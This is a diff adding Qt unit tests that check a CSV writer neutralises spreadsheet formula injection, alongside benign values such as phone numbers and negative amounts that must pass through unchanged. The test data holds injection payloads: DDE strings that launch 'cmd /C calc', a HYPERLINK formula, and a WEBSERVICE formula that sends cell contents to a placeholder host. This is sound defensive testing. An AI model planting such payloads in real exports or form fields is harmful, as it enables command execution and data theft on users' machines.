@@ -78,6 +78,9 @@ private slots:
     void modelExportPrefersTypedValues();
     void modelExportChosenColumns();
     void modelExportWithoutRowsWritesHeader();
+    void formulasAreNeutralised_data();
+    void formulasAreNeutralised();
+    void modelExportNeutralisesFormulas();
 };
 
 static QByteArray bom()
@@ -331,6 +334,68 @@ void tst_CsvWriter::modelExportWithoutRowsWritesHeader()
     QString error;
     QVERIFY2(CsvWriter::writeModel(&model, &buffer, &error), qPrintable(error));
     QCOMPARE(buffer.data(), bom() + "Nom;\"Service; p\xC3\xB4le\"\r\n");
+}
+
+void tst_CsvWriter::formulasAreNeutralised_data()
+{
+    QTest::addColumn<QVariant>("value");
+    QTest::addColumn<QByteArray>("field");
+    // Formula-like text gets an apostrophe in front (OWASP), then the usual quoting.
+    QTest::newRow("equals") << QVariant(QStringLiteral("=1+1")) << QByteArray("'=1+1");
+    QTest::newRow("hyperlink") << QVariant(QStringLiteral("=HYPERLINK(\"http://x\";\"y\")"))
+                               << QByteArray("\"'=HYPERLINK(\"\"http://x\"\";\"\"y\"\")\"");
+    QTest::newRow("plus dde") << QVariant(QStringLiteral("+1+cmd|' /C calc'!A0"))
+                              << QByteArray("'+1+cmd|' /C calc'!A0");
+    QTest::newRow("minus sum") << QVariant(QStringLiteral("-2+3+cmd|' /C calc'!A0"))
+                               << QByteArray("'-2+3+cmd|' /C calc'!A0");
+    QTest::newRow("at") << QVariant(QStringLiteral("@SUM(A1:A9)")) << QByteArray("'@SUM(A1:A9)");
+    QTest::newRow("tab") << QVariant(QStringLiteral("\t=1+1")) << QByteArray("'\t=1+1");
+    QTest::newRow("carriage return")
+        << QVariant(QStringLiteral("\r=1+1")) << QByteArray("\"'\r=1+1\"");
+    QTest::newRow("after spaces") << QVariant(QStringLiteral("  =1+1")) << QByteArray("'  =1+1");
+    // What is not a formula stays as it is: numbers (typed or as text), phone numbers, dashes.
+    QTest::newRow("negative int") << QVariant(-42) << QByteArray("-42");
+    QTest::newRow("negative double") << QVariant(-0.75) << QByteArray("-0,75");
+    QTest::newRow("negative amount text")
+        << QVariant(QStringLiteral("-12,50 €")) << QByteArray("-12,50 \xE2\x82\xAC");
+    QTest::newRow("signed percent") << QVariant(QStringLiteral("+5 %")) << QByteArray("+5 %");
+    QTest::newRow("phone") << QVariant(QStringLiteral("+33 4 72 10 30 30"))
+                           << QByteArray("+33 4 72 10 30 30");
+    QTest::newRow("dash") << QVariant(QStringLiteral("-")) << QByteArray("-");
+    QTest::newRow("inner equals") << QVariant(QStringLiteral("a=b")) << QByteArray("a=b");
+    QTest::newRow("email") << QVariant(QStringLiteral("x@mairie.fr")) << QByteArray("x@mairie.fr");
+}
+
+void tst_CsvWriter::formulasAreNeutralised()
+{
+    QFETCH(QVariant, value);
+    QFETCH(QByteArray, field);
+    QBuffer buffer;
+    QVERIFY(buffer.open(QIODevice::WriteOnly));
+    CsvWriter writer(&buffer);
+    QVERIFY(writer.setHeader({QStringLiteral("=cmd"), QStringLiteral("b")}));
+    QVERIFY(writer.writeRow({value, QStringLiteral("z")}));
+    QCOMPARE(buffer.data(), bom() + "'=cmd;b\r\n" + field + ";z\r\n");
+}
+
+void tst_CsvWriter::modelExportNeutralisesFormulas()
+{
+    // What an agent typed into a free-text field reaches the export through a model.
+    QStandardItemModel model(2, 2);
+    model.setHorizontalHeaderLabels({QStringLiteral("Nom"), QStringLiteral("Téléphone")});
+    model.setData(model.index(0, 0), QStringLiteral("=WEBSERVICE(\"http://x/?\"&A2)"));
+    model.setData(model.index(0, 1), QStringLiteral("+33 4 72 10 30 30"));
+    model.setData(model.index(1, 0), QStringLiteral("Dupont"));
+    model.setData(model.index(1, 1), -3);
+    QBuffer buffer;
+    QVERIFY(buffer.open(QIODevice::WriteOnly));
+    QString error;
+    QVERIFY2(CsvWriter::writeModel(&model, &buffer, &error), qPrintable(error));
+    QCOMPARE(buffer.data(),
+             bom()
+                 + "Nom;T\xC3\xA9l\xC3\xA9phone\r\n"
+                   "\"'=WEBSERVICE(\"\"http://x/?\"\"&A2)\";+33 4 72 10 30 30\r\n"
+                   "Dupont;-3\r\n");
 }
 
 QTEST_GUILESS_MAIN(tst_CsvWriter)
